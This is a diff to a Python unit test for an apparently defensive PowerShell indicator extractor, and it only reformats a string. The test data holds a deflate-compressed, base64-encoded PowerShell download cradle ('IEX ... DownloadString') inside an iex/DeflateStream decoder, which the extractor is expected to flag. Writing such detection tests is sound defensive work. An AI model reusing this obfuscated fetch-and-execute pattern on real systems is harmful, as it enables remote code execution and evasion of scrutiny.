@@ -101,7 +101,11 @@ def test_deflate_wrapped_payload_is_inflated(extractor: PowerShellExtractor) -> 
     compressor = zlib.compressobj(wbits=-15)
     raw = compressor.compress(b"IEX (New-Object Net.WebClient).DownloadString('http://x')")
     raw += compressor.flush()
-    line = f"iex(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{base64.b64encode(raw).decode()}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
+    line = (
+        "iex(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream("
+        f"[IO.MemoryStream][Convert]::FromBase64String('{base64.b64encode(raw).decode()}'),"
+        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
+    )
     iocs = extractor.indicators([line]).to_pylist()[0]
     assert "downloadstring" in iocs
     assert "deflatestream" in iocs
